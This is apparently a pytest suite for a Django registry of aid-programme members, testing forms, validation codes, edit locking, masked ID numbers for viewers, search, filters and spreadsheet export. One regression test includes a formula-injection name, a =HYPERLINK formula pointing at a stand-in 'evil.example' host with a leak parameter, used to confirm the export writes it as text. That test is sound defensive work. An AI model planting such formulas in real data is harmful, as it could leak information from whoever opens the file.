"""Member pages: adding with every error beside its field and code, editing with locking, removal, the member
page with eligibility, duplicates and history, and the member list with search, filters and export."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.conftest import code_shown, login
from tests.factories import GroupFactory, MembershipFactory, PersonFactory, ProgramFactory, make_nik
from tunas.regions.models import Hamlet
from tunas.registry.eligibility import age_on
from tunas.registry.models import GroupStatus, Membership, Person, Verification

from .helpers import PIKAT, english, form_data, group_with_members, person_data

pytestmark = pytest.mark.django_db

LIST_QUERY_BOUND = 12


@pytest.fixture
def as_officer(as_officer):
    return english(as_officer)


def members_in_groups_of_ten(program, rows: int) -> None:
    while rows > 0:
        group_with_members(program, min(rows, 10))
        rows -= 10


def field_errors(response, name: str) -> list[str]:
    return list(response.context["form"].errors.get(name, []))


# Adding a member --------------------------------------------------------------------------------------------


def test_the_add_member_form_renders_every_field(as_officer, program):
    group = GroupFactory(program=program)
    page = as_officer.get(reverse("registry:member_add", args=[group.pk])).content.decode()
    for name in [
        "nik",
        "kk",
        "full_name",
        "sex",
        "birth_place",
        "birth_date",
        "village",
        "hamlet_name",
        "street",
        "phone",
        "education",
        "disability",
        "categories",
        "employment_before",
        "income_before",
        "consent_data",
        "consent_public",
        "role",
    ]:
        assert f'name="{name}"' in page, name


def test_an_officer_adds_a_member_with_a_normalised_phone_and_income(as_officer, program, officer):
    group = GroupFactory(program=program)
    data = person_data()
    response = as_officer.post(
        reverse("registry:member_add", args=[group.pk]),
        form_data(
            data,
            nik=" ".join([data.nik[:6], data.nik[6:12], data.nik[12:]]),
            phone="0812-3456-7890",
            income_before="Rp 1.250.000",
            kk="5105-0301-0110-0001",
            role="ketua",
            categories=["penganggur", "keluarga_miskin"],
        ),
    )
    assert response.status_code == 302
    person = Person.objects.get(nik=data.nik)
    m = Membership.objects.get(person=person)
    assert (m.phone, m.income_before, m.kk, person.created_by) == (
        "+6281234567890",
        1_250_000,
        "5105030101100001",
        officer,
    )
    assert m.categories == ["penganggur", "keluarga_miskin"]
    assert m.role == "ketua"


def test_save_and_add_another_returns_to_an_empty_form(as_officer, program):
    group = GroupFactory(program=program)
    response = as_officer.post(
        reverse("registry:member_add", args=[group.pk]), {**form_data(), "add_another": "1"}
    )
    assert response["Location"] == reverse("registry:member_add", args=[group.pk])


def test_an_unreadable_phone_is_phone_invalid_beside_the_phone(as_officer, program):
    group = GroupFactory(program=program)
    response = as_officer.post(reverse("registry:member_add", args=[group.pk]), form_data(phone="12345"))
    assert response.status_code == 200
    [error] = field_errors(response, "phone")
    assert "phone_invalid" in error and "0812 3456 7890" in error


def test_nik_errors_are_shown_beside_the_field_they_concern_with_their_codes(as_officer, program):
    group = GroupFactory(program=program)
    nik = make_nik(birth=dt.date(1985, 3, 12), sex="F", serial=9001)
    response = as_officer.post(
        reverse("registry:member_add", args=[group.pk]), form_data(person_data(nik=nik))
    )
    [error] = field_errors(response, "sex")
    assert "nik_sex_mismatch" in error
    page = response.content.decode()
    assert "nik_sex_mismatch" in page and 'id="form-errors"' in page


def test_a_short_nik_is_nik_format_beside_the_nik(as_officer, program):
    group = GroupFactory(program=program)
    response = as_officer.post(reverse("registry:member_add", args=[group.pk]), form_data(nik="5105031203"))
    assert "nik_format" in field_errors(response, "nik")[0]


def test_eligibility_errors_are_shown_beside_their_fields(as_officer, program):
    group = GroupFactory(program=program)
    response = as_officer.post(
        reverse("registry:member_add", args=[group.pk]),
        form_data(person_data(birth_date=dt.date(2012, 1, 1)), categories=[]),
    )
    assert "age_out_of_range" in field_errors(response, "birth_date")[0]
    assert "category_missing" in field_errors(response, "categories")[0]


def test_registering_the_same_person_twice_is_duplicate_in_program(as_officer, program):
    group, [m] = group_with_members(program, 1)
    data = person_data(nik=m.person.nik, full_name=m.person.full_name)
    response = as_officer.post(
        reverse("registry:member_add", args=[GroupFactory(program=program).pk]), form_data(data)
    )
    assert "duplicate_in_program" in field_errors(response, "nik")[0]


def test_a_full_group_is_group_full_above_the_form(as_officer, klungkung):
    program = ProgramFactory(office=klungkung, group_size_min=1, group_size_max=1)
    group, _members = group_with_members(program, 1)
    response = as_officer.post(reverse("registry:member_add", args=[group.pk]), form_data())
    assert any("group_full" in e for e in response.context["form"].non_field_errors())


def test_missing_consent_and_required_fields_carry_the_required_code(as_officer, program):
    group = GroupFactory(program=program)
    response = as_officer.post(
        reverse("registry:member_add", args=[group.pk]), form_data(consent_data="", full_name="")
    )
    assert "required" in field_errors(response, "consent_data")[0]
    assert "required" in field_errors(response, "full_name")[0]


def test_an_unknown_date_is_date_invalid(as_officer, program):
    group = GroupFactory(program=program)
    response = as_officer.post(
        reverse("registry:member_add", args=[group.pk]), form_data(birth_date="31-02-1985")
    )
    assert "date_invalid" in field_errors(response, "birth_date")[0]


def test_a_typed_hamlet_is_added_for_the_member(as_officer, program):
    group = GroupFactory(program=program)
    as_officer.post(
        reverse("registry:member_add", args=[group.pk]),
        form_data(person_data(village_id=PIKAT), hamlet_name="Dusun Sente"),
    )
    assert Hamlet.objects.filter(village_id=PIKAT, name="Sente").exists()


def test_a_duplicate_warning_is_announced_after_saving(as_officer, program):
    MembershipFactory(phone="+6281234509876")
    group = GroupFactory(program=program)
    response = as_officer.post(
        reverse("registry:member_add", args=[group.pk]), form_data(phone="081234509876"), follow=True
    )
    assert "with a warning" in response.content.decode()


# Editing ----------------------------------------------------------------------------------------------------


def test_the_edit_form_is_filled_with_the_member(as_officer, program):
    group, [m] = group_with_members(program, 1)
    response = as_officer.get(reverse("registry:member_edit", args=[m.pk]))
    page = response.content.decode()
    assert m.person.nik in page and m.person.full_name in page
    assert 'name="version" value="1"' in page


def test_an_edit_saves_and_returns_to_the_member_page(as_officer, program):
    group, [m] = group_with_members(program, 1)
    data = person_data(nik=m.person.nik, full_name="I Made Sudah Diubah")
    response = as_officer.post(
        reverse("registry:member_edit", args=[m.pk]), {**form_data(data), "version": 1}
    )
    assert response["Location"] == reverse("registry:member_detail", args=[m.pk])
    assert Person.objects.get(pk=m.person_id).full_name == "I Made Sudah Diubah"


def test_a_stale_edit_shows_the_conflict_and_loses_nothing_typed(as_officer, program):
    group, [m] = group_with_members(program, 1)
    Membership.objects.filter(pk=m.pk).update(version=5)
    data = person_data(nik=m.person.nik, full_name="Ketikan Saya Yang Panjang", street="Jl. Gajah Mada 7")
    response = as_officer.post(
        reverse("registry:member_edit", args=[m.pk]), {**form_data(data), "version": 4}
    )
    page = response.content.decode()
    assert response.status_code == 200
    assert code_shown("conflict") in page
    assert "Ketikan Saya Yang Panjang" in page and "Jl. Gajah Mada 7" in page
    assert Person.objects.get(pk=m.person_id).full_name != "Ketikan Saya Yang Panjang"


# Removing ---------------------------------------------------------------------------------------------------


def test_an_officer_removes_a_member_before_verification(as_officer, program):
    group, [m] = group_with_members(program, 1)
    response = as_officer.post(reverse("registry:member_remove", args=[m.pk]))
    assert response["Location"] == reverse("registry:group_detail", args=[group.pk])
    assert not Membership.objects.filter(pk=m.pk).exists()


def test_a_verified_member_is_not_removed(as_officer, program):
    group, [m] = group_with_members(program, 1)
    Membership.objects.filter(pk=m.pk).update(verification=Verification.APPROVED)
    as_officer.post(reverse("registry:member_remove", args=[m.pk]))
    assert Membership.objects.filter(pk=m.pk).exists()


# The member page --------------------------------------------------------------------------------------------


def test_the_member_page_shows_identity_categories_eligibility_and_history(as_officer, program, klungkung):
    earlier = ProgramFactory(
        office=klungkung, code="KLK-TKM-2018", fiscal_year=2018, aid_date=dt.date(2018, 9, 4)
    )
    group, [m] = group_with_members(program, 1)
    MembershipFactory(
        group=GroupFactory(program=earlier, name="Kerajinan Lontar Besang"),
        person=m.person,
        verification=Verification.APPROVED,
    )
    page = as_officer.get(reverse("registry:member_detail", args=[m.pk])).content.decode()
    for text in [
        m.person.full_name,
        m.person.nik,
        "Unemployed",
        "Eligible",
        "KLK-TKM-2018",
        "Kerajinan Lontar Besang",
        "41 years old",
        program.code,
    ]:
        assert text in page, text


def test_the_member_page_explains_why_someone_is_no_longer_eligible(as_officer, klungkung):
    program = ProgramFactory(office=klungkung, allowed_categories=["penganggur"])
    group, [m] = group_with_members(program, 1)
    program.allowed_categories = ["lansia"]
    program.save()
    page = as_officer.get(reverse("registry:member_detail", args=[m.pk])).content.decode()
    assert "Not eligible" in page and "category_missing" in page


def test_the_member_page_lists_possible_duplicates_and_an_officer_resolves_them(as_officer, program, officer):
    twin = PersonFactory(full_name="I Ketut Kembar", birth_date=dt.date(1985, 3, 12))
    MembershipFactory(group=GroupFactory(program=program), person=twin)
    response = as_officer.post(
        reverse("registry:member_add", args=[GroupFactory(program=program).pk]),
        form_data(person_data(full_name="I Ketut Kembar")),
    )
    m = Membership.objects.get(
        person__nik__in=[p.nik for p in Person.objects.exclude(pk=twin.pk)],
        person__full_name="I Ketut Kembar",
    )
    assert response.status_code == 302
    page = as_officer.get(reverse("registry:member_detail", args=[m.pk])).content.decode()
    assert "possible_duplicate" in page and twin.nik in page
    as_officer.post(reverse("registry:member_warnings_resolve", args=[m.pk]))
    assert Membership.objects.get(pk=m.pk).warnings_resolved_by == officer
    page = as_officer.get(reverse("registry:member_detail", args=[m.pk])).content.decode()
    assert "Checked: these are different people" not in page


def test_a_viewer_sees_the_member_with_masked_numbers_and_no_contact_details(viewer, program):
    group, [m] = group_with_members(program, 1)
    group.name = "Kelompok Uji"  # a numbered factory name could hold the birth year the page must not show
    group.save(update_fields=["name"])
    Membership.objects.filter(pk=m.pk).update(
        kk="5105030101100001",
        phone="+6281234567890",
        street="Jl. Rahasia 1",
        income_before=1_750_000,
        disability="sensorik_netra",
        verification=Verification.REJECTED,
        verification_reason="Alasan rahasia",
    )
    page = english(login(viewer)).get(reverse("registry:member_detail", args=[m.pk])).content.decode()
    assert m.person.nik not in page and m.person.nik_masked in page
    assert "0110-0001" not in page and "0101100001" not in page
    assert "+6281234567890" not in page and "Jl. Rahasia 1" not in page
    assert "1.750.000" not in page and "Sensory: visual" not in page and "Alasan rahasia" not in page
    assert m.person.birth_date.strftime("%Y") not in page.split("<main")[1]
    assert reverse("registry:member_edit", args=[m.pk]) not in page


@pytest.mark.parametrize("others", [1, 10])
def test_the_member_page_issues_a_bounded_number_of_queries(
    as_officer, program, klungkung, others, django_assert_max_num_queries
):
    group, [m] = group_with_members(program, 1)
    for _ in range(others):
        earlier = ProgramFactory(office=klungkung, aid_date=dt.date(2010, 1, 1))
        MembershipFactory(group=GroupFactory(program=earlier), person=m.person)
        PersonFactory(full_name=m.person.full_name, birth_date=m.person.birth_date)
    with django_assert_max_num_queries(20):
        as_officer.get(reverse("registry:member_detail", args=[m.pk]))


# The member list --------------------------------------------------------------------------------------------


def test_the_member_list_searches_by_name_or_nik(as_officer, program):
    group, [a, b] = group_with_members(program, 2)
    url = reverse("registry:member_list")

    def found(q: str) -> set[int]:
        return {m.pk for m in as_officer.get(url, {"q": q}).context["page"]}

    assert found(a.person.full_name.upper()) == {a.pk}
    assert found(b.person.nik) == {b.pk}
    assert found(b.person.nik[:6] + "." + b.person.nik[6:]) == {b.pk}
    assert found(b.person.nik[-8:]) == {b.pk}


def test_a_viewer_finds_a_member_only_by_the_whole_nik(viewer, program):
    group, [m] = group_with_members(program, 1)
    client = login(viewer)
    url = reverse("registry:member_list")
    assert list(client.get(url, {"q": m.person.nik[-8:]}).context["page"]) == []
    assert [x.pk for x in client.get(url, {"q": m.person.nik}).context["page"]] == [m.pk]


def test_the_member_list_filters_by_programme_verification_category_sex_and_warnings(
    as_officer, program, klungkung
):
    other_program = ProgramFactory(office=klungkung)
    group = GroupFactory(program=program)
    woman = MembershipFactory(
        group=group,
        verification=Verification.APPROVED,
        person=PersonFactory(sex="F"),
        categories=["setengah_penganggur"],
    )
    man = MembershipFactory(
        group=group,
        categories=["penganggur", "lansia"],
        warnings=[{"code": "possible_duplicate", "message": "…"}],
    )
    elsewhere = MembershipFactory(group=GroupFactory(program=other_program))
    url = reverse("registry:member_list")

    def found(**params) -> set[int]:
        return {m.pk for m in as_officer.get(url, params).context["page"]}

    assert found(program=program.code) == {woman.pk, man.pk}
    assert found(verification="approved") == {woman.pk}
    assert found(category="penganggur") == {man.pk, elsewhere.pk}
    assert found(category="setengah_penganggur") == {woman.pk}
    assert found(sex="F") == {woman.pk}
    assert found(warnings="open") == {man.pk}


def test_the_member_list_sorts_by_name_both_ways(as_officer, program):
    group = GroupFactory(program=program)
    for name in ["Ni Luh B", "I Wayan A", "Ni Made C"]:
        MembershipFactory(group=group, person=PersonFactory(full_name=name))
    url = reverse("registry:member_list")
    names = [m.person.full_name for m in as_officer.get(url, {"sort": "name"}).context["page"]]
    assert names == ["I Wayan A", "Ni Luh B", "Ni Made C"]
    names = [m.person.full_name for m in as_officer.get(url, {"sort": "-name"}).context["page"]]
    assert names == ["Ni Made C", "Ni Luh B", "I Wayan A"]


def test_an_empty_member_list_says_what_to_do_first(as_officer):
    assert "No participants yet" in as_officer.get(reverse("registry:member_list")).content.decode()


@pytest.mark.parametrize("rows", [3, 30])
def test_the_member_list_issues_a_bounded_number_of_queries(
    as_officer, program, rows, django_assert_max_num_queries
):
    members_in_groups_of_ten(program, rows)
    with django_assert_max_num_queries(LIST_QUERY_BOUND):
        response = as_officer.get(reverse("registry:member_list"))
    assert response.status_code == 200


@pytest.mark.parametrize("rows", [3, 30])
def test_the_member_export_issues_a_bounded_number_of_queries(
    as_officer, program, rows, django_assert_max_num_queries
):
    members_in_groups_of_ten(program, rows)
    with django_assert_max_num_queries(LIST_QUERY_BOUND):
        response = as_officer.get(reverse("registry:member_export"))
    rows_read = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert len(rows_read) == rows + 1


def _export(client, **params) -> list[dict]:
    response = client.get(reverse("registry:member_export"), params)
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def test_the_export_shows_full_numbers_to_an_officer(as_officer, program):
    group, [m] = group_with_members(program, 1)
    Membership.objects.filter(pk=m.pk).update(kk="5105030101100001", phone="+6281234567890")
    [row] = _export(as_officer)
    assert (row["NIK"], row["Family card number (KK)"], row["Phone"]) == (
        m.person.nik,
        "5105030101100001",
        "+6281234567890",
    )
    assert row["Date of birth"].date() == m.person.birth_date


def test_the_export_masks_numbers_and_leaves_out_contacts_for_a_viewer(viewer, program):
    group, [m] = group_with_members(program, 1)
    group.name = "Kelompok Uji"  # a numbered factory name could hold the birth year the page must not show
    group.save(update_fields=["name"])
    Membership.objects.filter(pk=m.pk).update(
        kk="5105030101100001", phone="+6281234567890", income_before=750_000, disability="fisik"
    )
    [row] = _export(english(login(viewer)))
    assert row["NIK"] == m.person.nik_masked
    hidden = ["Family card number (KK)", "Date of birth", "Phone", "Street address", "Disability"]
    assert [name for name in hidden if name in row] == []
    assert "Monthly income before" not in row and "Reason" not in row
    assert row["Age"] == age_on(m.person.birth_date, m.program.registration_end or dt.date.today())


def test_the_export_follows_the_filters(as_officer, program):
    group, [a, b] = group_with_members(program, 2)
    Membership.objects.filter(pk=a.pk).update(verification=Verification.APPROVED)
    rows = _export(as_officer, verification="approved")
    assert [r["Full name"] for r in rows] == [a.person.full_name]


def test_a_rejected_member_of_a_rejected_group_shows_in_the_list(as_officer, program):
    group = GroupFactory(program=program, status=GroupStatus.REJECTED)
    m = MembershipFactory(group=group, verification=Verification.REJECTED, verification_reason="PNS")
    assert m.pk in {x.pk for x in as_officer.get(reverse("registry:member_list")).context["page"]}


def test_nik_problems_show_in_the_first_round_with_the_other_missing_fields(as_officer, program):
    group = GroupFactory(program=program)
    response = as_officer.post(
        reverse("registry:member_add", args=[group.pk]), form_data(nik="9905031203850001", full_name="")
    )
    assert "nik_province" in field_errors(response, "nik")[0]
    assert "required" in field_errors(response, "full_name")[0]


def test_a_name_written_as_a_formula_exports_as_text_not_as_a_live_formula(as_officer, program):
    """Finding 7: a member named =HYPERLINK(...) exported as a live formula."""
    evil = '=HYPERLINK("http://evil.example/?leak","klik")'
    group = GroupFactory(program=program)
    from tunas.registry import services

    services.member_register(group=group, data=person_data(full_name=evil, birth_place="+SUM(1,2)"))
    response = as_officer.get(reverse("registry:member_export"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert all(c.data_type != "f" for c in cells)
    values = {c.value for c in cells}
    assert "'" + evil in values and "'+SUM(1,2)" in values
    csv = b"".join(
        as_officer.get(reverse("reports:download", args=["participants", "csv"])).streaming_content
    )
    assert "'=HYPERLINK" in csv.decode("utf-8-sig")


def test_an_age_counted_on_another_day_than_today_says_so(as_officer, program):
    group, [m] = group_with_members(program, 1)
    page = english(as_officer).get(reverse("registry:member_detail", args=[m.pk])).content.decode()
    assert "age at the programme, on 1 November 2026" in page
